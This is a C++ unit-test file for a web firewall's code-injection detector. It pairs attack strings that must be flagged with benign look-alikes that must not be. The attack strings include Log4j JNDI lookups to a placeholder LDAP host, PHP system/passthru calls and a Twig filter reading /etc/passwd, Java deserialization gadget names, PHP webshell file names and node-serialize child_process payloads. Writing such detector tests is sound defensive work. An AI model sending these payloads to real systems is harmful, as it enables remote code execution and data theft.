// Case tables for the code-injection classes of detectors/code_patterns.cc and the PHP / Java
// / Log4j additions of code_injection_detector.cc: attacks that must be found, and hard
// benign values (prose, code in forum posts, file names, tokens) that must not be.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::detects;

void table(const std::vector<std::string>& attacks, const std::vector<std::string>& benign,
           Source source = Source::query) {
  for (const auto& a : attacks) EXPECT_TRUE(detects(detect_code_injection, a, source)) << "missed attack: " << a;
  for (const auto& b : benign) EXPECT_FALSE(detects(detect_code_injection, b, source)) << "false positive: " << b;
}

std::string base64(std::string_view in) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    const unsigned b0 = static_cast<unsigned char>(in[i]);
    const unsigned b1 = i + 1 < in.size() ? static_cast<unsigned char>(in[i + 1]) : 0;
    const unsigned b2 = i + 2 < in.size() ? static_cast<unsigned char>(in[i + 2]) : 0;
    out.push_back(kAlphabet[b0 >> 2]);
    out.push_back(kAlphabet[((b0 & 3) << 4) | (b1 >> 4)]);
    out.push_back(i + 1 < in.size() ? kAlphabet[((b1 & 15) << 2) | (b2 >> 6)] : '=');
    out.push_back(i + 2 < in.size() ? kAlphabet[b2 & 63] : '=');
  }
  return out;
}

TEST(WafCodeCases, JavaGadgetNamesInBase64AnyAlignment) {
  // A serialized stream carries class names at any byte offset.
  for (const std::string prefix : {"", "x", "xy", "\xac\xed\x00\x05sr\x00"}) {
    EXPECT_TRUE(detects(detect_code_injection, base64(prefix + "java.lang.Runtime")));
    EXPECT_TRUE(detects(detect_code_injection, base64(prefix + "org.apache.commons.collections.functors.InvokerTransformer")));
    EXPECT_TRUE(detects(detect_code_injection, base64(prefix + "processbuilder")));
  }
  // URL-safe alphabet, and inside a cookie value.
  std::string url_safe = base64("\x01\x02>com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl");
  for (char& c : url_safe) c = c == '+' ? '-' : c == '/' ? '_' : c;
  EXPECT_TRUE(detects(detect_code_injection, url_safe, Source::cookie));
  table({}, {base64("The Go runtime schedules goroutines; see the docs."), base64("{\"user\":\"ann\",\"role\":\"admin\"}"),
             "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
             "d41d8cd98f00b204e9800998ecf8427e", "RuntimeError", "ProcessBuilder"});
}

TEST(WafCodeCases, JavaSerializedMagicAndClasses) {
  // A magic at the start of a word, also after the same letters inside one (the first
  // occurrence is not the only one read).
  table({"rO0ABQ", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "KztAAU", "Cs7QAF", "xrO0AB rO0ABXNyABFq",
         "org.apache.commons", "org.omg.CORBA.ORB", "runtime.prototypeclonefactory",
         "java.evil.runtime", "java.lang.Runtime.getRuntime", "java.x.ProcessBuilder",
         "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://h/x.xml')"},
        {"java.version", "I use org.apache.commons in my project and it works fine",
         "Java runtime environment", "prototype clone factory"});
}

TEST(WafCodeCases, Log4jLookupsWithEntitiesAndRebuiltDefaults) {
  table({"$${env:x:-${env:y:-$}{jndi:ldap://h/a}}}", "agent ${:1337:-x$}{jndi:ldap://h/a}", "$&lbrace;jndi:ldap://h/a}",
         "$\\u0026lbrace;jndi:ldap://h/a}", "%24&lcub;\\u006A&#110;di:ldap://h/a}",
         "&#x24;&#000000000000000000000000123;jndi:ldap://h/a}"},
        {"${HOME}/bin", "price: $&lbrace; not a lookup", "${user.name}"});
}

TEST(WafCodeCases, PhpTagsAndTemplates) {
  table({"<?xml :echo 1;", "<?xml:system('ls');", "<?xml \t\t ();echo 1;", "{php}echo 1{/php}",
         "{PHP}echo \"test\"", "echo \"test\"{/php}"},
        {"<?xml version=\"1.0\"?><a>b</a>", "<?xml-stylesheet href=\"a.xsl\"?>", "{phpBB} forum",
         "<?xml encoding=\"utf-8\"?>"});
}

TEST(WafCodeCases, PhpUploadsAndSessionFiles) {
  table({"shell.php.jpg", "test. php.jpg", "x.phar .png", "a.php907.....", "dangerous.phps", "x.pht",
         "sess_d8ew88tqmabdcokhumchy8htqm", "/tmp/sess_abc123def456ghi789jkl", "C:\\temp\\sess_malicious12345678901"},
        {"photo.jpg", "my.photos.zip", "report.pdf", "phpunit.xml.dist", "session_notes.txt", "sess_1.txt",
         "graph.png"},
        Source::multipart_filename);
}

TEST(WafCodeCases, PhpIniDirectives) {
  table({"allow_url_include=1", "auto_prepend_file=php://input", "opcache.jit_max_polymorphic_calls=50",
         "session.referer_check=true", "memory_limit = 512M", "extension_dir=/path/to/example",
         "engine=true", "smtp=25"},
        {"engine=google is my search engine", "engine=google", "smtp=mail.example.com", "session.id", "memory limit = 512M",
         "precision", "a=1&b=2", "opcache"});
}

TEST(WafCodeCases, PhpDynamicCalls) {
  table({"$__[$_[1]](7)", "$OOO000000{0}(15)", "$b374k=@$s_func(22)", "$foo->$funcname()",
         "Foo::$variable()", "(string)\"system\"('uname');", "( string ) \"sys\".\"t\".\"em\" ('uname');",
         "(string) {[system][0]} ('uname');", "define('x', 'sys' . 'tem');(x)/* comment */('uname');",
         "$y = 'sys'.'tem';($y)('uname');", "(sy.(st).em)(@id)", "return\"system\"(xyz).s"},
        {"$a[]()", "It costs $5 (approx.)", "The variable $foo (see above) holds it",
         "f(x)('a') is curried", "How do I call $obj->$method() dynamically?\nI tried it and it fails", "see (a.b) ('c') here", "\"hello world\"('x')"});
}

TEST(WafCodeCases, PhpLibraryCalls) {
  table({"curl_init()", "posix_getegid()", "array_diff (", "date_add()", "chr(123)", "substr()",
         "unpack()", "crypt('abc')", "gzuncompress/*comment*/()", "I don't like gzuncompress/*x*/()",
         "ldap_get_entries()", "sodium_crypto_box_keypair()"},
        {"sodium_add_to_recipe(foo)", "array of strings (see docs)", "chr", "range(of values)",
         "gzip (fast)", "str_replace is a PHP function", "pi (3.14)"});
}

TEST(WafCodeCases, SerializedObjectsNestedAndInterpolatedCalls) {
  table({"a:1:{i:0;O:7:\"Exploit\":0:{}}", "_|O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{}",
         "${system('id')}", "{${phpinfo()}}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
        {"a:1:{i:0;s:3:\"abc\";}", "Hello: O:8 is a size", "${user.name}", "${count} items",
         "the class module loader"});
}

TEST(WafCodeCases, TemplateFiltersCallingPhp) {
  table({"{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('passthru')}}", "{{[0]|reduce('system','id')}}"},
        {"{{ items|filter('active') }}", "{{ names|sort }}", "a | map('x') | b"});
}

TEST(WafCodeCases, SuperglobalNames) {
  EXPECT_TRUE(detects(detect_code_injection, "$_COOKIE", Source::query_name));
  EXPECT_TRUE(detects(detect_code_injection, "$_SERVER", Source::form_name));
  EXPECT_FALSE(detects(detect_code_injection, "$price", Source::query_name));
}

}  // namespace
}  // namespace defender::cnaf::waf

namespace defender::cnaf::waf {
namespace {

// Repetitive hostile values: every detector must finish (linear scans, bounded look-backs).
// No timing is asserted; a quadratic path would show as a slow test.
TEST(WafCodeCases, RepetitiveValuesFinish) {
  for (const std::string unit : {"$a#", "`ls ", "*/(", "(", "window/*", "<?import", "\"&\"", "alert(", "/*",
                                 "${", "+AD", "&#0000", "$a[", "<f o ", "x:", "document[", "'+'", "$(id "}) {
    std::string big;
    while (big.size() < 200000) big += unit;
    for (const auto d : {detect_xss, detect_code_injection, detect_cmdi, detect_lfi})
      (void)detects(d, big, Source::form);
  }
  SUCCEED();
}

// node-serialize's function marker, plain, escaped or in base64 (decoded by the Waf).
TEST(WafCodeCases, NodeSerializeFunctions) {
  table({"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "_$$ND_FUNC$$_",
         "{\"rce\":\"_$$ND_FUNC$$_function (){}\"}"},
        {"costs $$ in the end", "ND_FUNC is a name", "_$$_ underline"});
}

}  // namespace
}  // namespace defender::cnaf::waf
